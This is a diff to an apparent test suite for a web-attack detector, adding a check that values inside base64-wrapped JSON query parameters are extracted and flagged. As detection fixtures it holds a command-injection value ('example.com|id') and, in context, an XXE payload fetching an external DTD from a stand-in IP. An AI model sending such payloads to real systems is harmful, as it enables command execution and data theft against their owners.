@@ -338,6 +338,17 @@ describe('placements', () => {
     expect(found.some((l) => l.startsWith('header:Sec-Fetch-Mode'))).toBe(false);
   });
 
+  it('reads the strings of a JSON document a value unwraps to as values of their own, by their path', () => {
+    const wrapped = encodeURIComponent(Buffer.from('{"host":"example.com|id","type":"MX","opts":{"tags":["a","b"]}}').toString('base64'));
+    const found = locations(view({ method: 'GET', target: `/lookup?d=${wrapped}` }));
+    expect(found).toEqual(expect.arrayContaining(['query:d (base64).host=example.com|id', 'query:d (base64).type=MX', 'query:d (base64).opts.tags[1]=b']));
+    const detector = new Detector({ level: 1 });
+    expect(detector.detect(view({ method: 'GET', target: `/lookup?d=${wrapped}` })).hits.map((h) => h.parameter)).toContain('d (base64).host');
+    // Not JSON, or too long to be a wrapped value: the copy alone.
+    const text = encodeURIComponent(Buffer.from('{"host": unquoted}').toString('base64'));
+    expect(locations(view({ method: 'GET', target: `/lookup?d=${text}` })).filter((l) => l.includes('(base64)'))).toHaveLength(1);
+  });
+
   it("reads a form's base64 whose '+' the form decoding turned into spaces, not words", () => {
     const xml = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % a SYSTEM "http://203.0.113.9/s.dtd"> %a;]><samlp:Response/>';
     const base64 = Buffer.from(xml).toString('base64');
